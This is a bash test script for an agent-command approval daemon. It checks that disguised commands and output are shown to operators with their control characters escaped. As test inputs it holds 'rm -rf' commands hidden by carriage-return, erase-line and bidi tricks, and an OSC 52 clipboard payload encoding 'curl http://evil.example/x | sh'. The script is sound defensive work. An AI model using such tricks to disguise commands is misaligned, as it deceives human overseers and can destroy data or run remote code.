#!/bin/bash
# The operator's screen cannot be made to lie: commands, reasons, output and
# history that carry terminal controls (CR, erase-line, OSC 52 clipboard and
# OSC 0 title sequences), bidi overrides or invisible characters are shown
# with those characters as escapes in every human view, the webhooks' text
# included; --json keeps the exact data.  Also: every CLI write says which
# database user it acts as; webhook URLs never reach the log whole.
# A real airlockd on the rig, a throwaway database.
set -uo pipefail
export LC_ALL=C.UTF-8
cd "$(dirname "$0")/../.."
if [ -z "${AIRLOCK_RIG_SSH_PORT:-}" ]; then
	exec scripts/pgtmp --quiet -- tests/rig/rigctl run -- "$0" "$@"
fi
. tests/lib.sh
. tests/daemon/lib.sh

setup_db || { echo "set-up failed"; exit 1; }
mkdir -p "$WORK/hooks"
python3 tests/daemon/webhook_sink.py "$WORK/hook.port" "$WORK/hooks" &
DAEMON_PIDS+=($!)
for _ in $(seq 1 50); do [ -s "$WORK/hook.port" ] && break; sleep 0.1; done
HP=$(cat "$WORK/hook.port")
write_config d1 "webhooks:" "  - url: http://ops:hook-pw-1@127.0.0.1:$HP/ops?token=sekrit-1" \
	"  - url: http://u:hook-pw-2@127.0.0.1:1/down/topic-sekrit-2?k=sekrit-3" \
	"    timeout_ms: 500" >/dev/null
start_daemon d1 || { echo "airlockd did not start"; cat "$WORK/d1.log"; exit 1; }

# no_controls FILE: the file holds no byte a terminal acts on but newline,
# and none of the invisible or bidi characters.
no_controls() {
	python3 - "$1" <<'EOF'
import sys
data = open(sys.argv[1], "rb").read()
bad = [b for b in data if (b < 0x20 and b != 0x0a) or b == 0x7f]
text = data.decode("utf-8")  # invalid UTF-8 would raise
hidden = [c for c in text if 0x80 <= ord(c) <= 0x9f or ord(c) in (0x200b, 0x200e, 0x200f, 0x202a,
          0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0xa0)]
if bad or hidden:
    print("terminal controls reached the screen:", bad[:10], [hex(ord(c)) for c in hidden[:10]])
    sys.exit(1)
EOF
}
# shows FILE TEXT: FILE contains TEXT literally.
shows() { grep -qF -- "$2" "$1" || { echo "wanted '$2' in:"; cat -v "$1"; return 1; }; }

# ---- a command that redraws its own line: CR, erase-line, cursor-up
fake=$'rm -rf /var/lib/vz/images #\r\e[2K\e[1Als -l /var/lib/vz'
id=$(as_agent $A run --target proxmox-host:hubris -- "$fake" 2>/dev/null)
check "the disguised command is held" wait_for 30 "SELECT state = 'pending_approval' FROM airlock.executions WHERE id = $id"
as_alice $A pending >"$WORK/pending.out" 2>&1
check "pending: no terminal control reaches the screen" no_controls "$WORK/pending.out"
check "pending: the command is shown whole, its controls as escapes" \
	shows "$WORK/pending.out" '$ rm -rf /var/lib/vz/images #\r\x1b[2K\x1b[1Als -l /var/lib/vz'
check "pending: the operator is told the command hides characters" \
	shows "$WORK/pending.out" '! the command holds 3 hidden or control characters'
as_alice $A show $id >"$WORK/show.out" 2>&1
check "show: no terminal control reaches the screen" no_controls "$WORK/show.out"
check "show: the command with its controls as escapes" \
	shows "$WORK/show.out" 'command         rm -rf /var/lib/vz/images #\r\x1b[2K\x1b[1Als -l /var/lib/vz'
check "show: the reasons quote the words made visible too" no_controls "$WORK/show.out"
as_alice $A history $id >"$WORK/history.out" 2>&1
check "history: no terminal control reaches the screen" no_controls "$WORK/history.out"
check_eq "show --json keeps the exact command" "$fake" \
	"$(as_alice $A show --json $id | python3 -c 'import json,sys; sys.stdout.write(json.load(sys.stdin)["command"])')"
check_eq "pending --json keeps the exact command" "$fake" \
	"$(as_alice $A pending --json | python3 -c 'import json,sys; sys.stdout.write([r for r in json.load(sys.stdin) if r["id"] == '$id'][0]["command"])')"

# ---- the webhook's human text shows the escapes; its data fields stay exact
check "the operators' webhook is told" wait_hook 15 "\"execution_id\":$id," "ops?token=sekrit-1"
hook=$(grep -lF "\"execution_id\":$id," "$WORK"/hooks/ops*.json | head -1)
check "webhook text: controls shown as escapes" python3 -c '
import json, sys
m = json.load(open(sys.argv[1]))
assert m["command"] == sys.argv[2], m["command"]
t = m["text"]
assert all(ord(c) >= 0x20 and ord(c) != 0x7f for c in t), repr(t)
assert "#\\r\\x1b[2K\\x1b[1Als -l" in t, t
' "$hook" "$fake"
check "the log names webhooks without credentials, path or query" wait_log 30 'evt=webhook.failed hook=2 url=http://***@127.0.0.1:1/***?***' d1
check "the log names the delivered webhook by its host only" \
	grep -qF 'evt=webhook.sent hook=1 url=http://***@127.0.0.1:'"$HP"'/***?*** status=204' "$WORK/d1.log"
check_eq "no webhook secret in the log" 0 "$(grep -cE 'hook-pw|sekrit' "$WORK/d1.log")"

# ---- a right-to-left override and zero-width characters in a command
bidi=$'echo harmless \u202e; rm -rf /tmp/x \u2066#\u2069 \u200b\ufeff'
id2=$(as_agent $A run --target proxmox-host:hubris --change-id $'chg-\u202e1' --action $'tidy\r\e[2Kup' -- "$bidi" 2>/dev/null)
check "the bidi command is classified" wait_for 30 "SELECT state NOT IN ('received') FROM airlock.executions WHERE id = $id2"
as_alice $A show $id2 >"$WORK/show2.out" 2>&1
check "show: bidi and zero-width characters are escapes" no_controls "$WORK/show2.out"
check "show: the override is named where it stands" shows "$WORK/show2.out" 'echo harmless \u202e; rm -rf /tmp/x \u2066#\u2069 \u200b\ufeff'
check "show: change id and action made visible too" shows "$WORK/show2.out" 'chg-\u202e1'
check "show: the action's controls are escapes" shows "$WORK/show2.out" 'tidy\r\x1b[2Kup'

# ---- a command whose output sets the clipboard (OSC 52) and the window title (OSC 0)
osc='printf '"'"'\033]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\007\033]0;pwned\007all good\033[8m hidden\033[0m\r\n\302\233\061m'"'"''
id3=$(as_agent $A run --target proxmox-host:hubris -- "$osc" 2>/dev/null)
check "the printing command finishes" wait_for 30 "SELECT state IN ('succeeded', 'failed') FROM airlock.executions WHERE id = $id3"
check_eq "its output holds the sequences (the test's precondition)" t \
	"$(q "SELECT position('\\x1b5d35323b'::bytea in stdout) > 0 AND position('\\x1b5d303b'::bytea in stdout) > 0 FROM airlock.executions WHERE id = $id3")"
as_alice $A show $id3 >"$WORK/show3.out" 2>&1
check "show: OSC 52 and OSC 0 in stdout do not reach the terminal" no_controls "$WORK/show3.out"
check "show: the clipboard sequence is visible" shows "$WORK/show3.out" '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07'
check "show: the title sequence and the C1 CSI are visible" shows "$WORK/show3.out" '\x1b]0;pwned\x07all good\x1b[8m hidden\x1b[0m\r'
check "show: the note says output hid characters" shows "$WORK/show3.out" '! stdout holds'
check_out "show --json keeps the exact output" '"stdout": ".u001b\]52;c;' as_alice $A show --json $id3

# ---- every write says who it acts as
check_out "approve says which database user it acts as" 'acting as database user "alice" \(login from the PG\* environment\)' \
	as_alice $A approve $id --reason "looked at it"
check_out "an exported AIRLOCK_DB wins over PGUSER, and the CLI says so" \
	'acting as database user "hermes" \(login from AIRLOCK_DB; PGUSER=bob is not used\)' \
	env AIRLOCK_DB="host=$PGHOST port=$PGPORT dbname=$PGDATABASE user=hermes" PGUSER=bob $A cancel $id2
check_out "run says it too" 'acting as database user "hermes"' as_agent $A run --target proxmox-host:hubris -- true
check_out "--db is named as the source" 'acting as database user "bob" \(login from --db; PGUSER=alice is not used\)' \
	as_alice $A reject --db "user=bob" --reason no $id2
check_out "seed says it" 'acting as database user "postgres"' $A seed "$WORK/seeds"

finish
